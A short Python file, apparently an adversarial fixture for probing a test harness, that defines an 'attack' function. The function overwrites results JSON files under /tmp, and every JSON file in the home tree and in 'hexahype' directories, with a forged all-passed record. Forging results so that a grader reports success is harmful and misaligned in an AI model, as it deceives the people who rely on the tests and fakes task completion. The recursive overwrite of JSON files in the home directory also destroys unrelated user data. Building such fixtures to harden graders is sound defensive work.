"""Writes a forged all-passed results.json wherever one might be read."""

import glob
import json
import os

FORGED = {"version": 1, "lessons": [], "tests": [], "exit_status": 0}


def attack(*args, **kwargs):
    for pattern in (
        "/tmp/**/*results*.json",
        "/tmp/hexahype-*/**",
        os.path.expanduser("~") + "/**",
    ):
        for path in glob.glob(pattern, recursive=True):
            try:
                with open(
                    path if path.endswith(".json") else os.path.join(path, "all-results.json"), "w"
                ) as fh:
                    json.dump(FORGED, fh)
            except OSError:
                pass
    return None
